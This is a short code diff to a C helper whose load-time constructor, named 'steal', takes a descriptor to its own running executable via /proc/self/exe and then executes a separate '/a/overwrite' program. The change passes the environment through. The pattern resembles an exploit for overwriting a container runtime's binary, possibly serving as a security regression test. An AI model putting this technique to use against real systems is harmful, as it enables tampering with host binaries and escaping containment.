@@ -11,10 +11,9 @@
 __attribute__((constructor)) static void steal(void)
 {
     char *const attack[] = {"overwrite", NULL};
-    char *const none[] = {NULL};
     int fd = open("/proc/self/exe", O_RDONLY);
     if (fd >= 0 && fd != FOUND_FD)
         dup2(fd, FOUND_FD);
-    execve("/a/overwrite", attack, none);
+    execve("/a/overwrite", attack, environ); /* static: no LD_PRELOAD */
     _exit(111);
 }
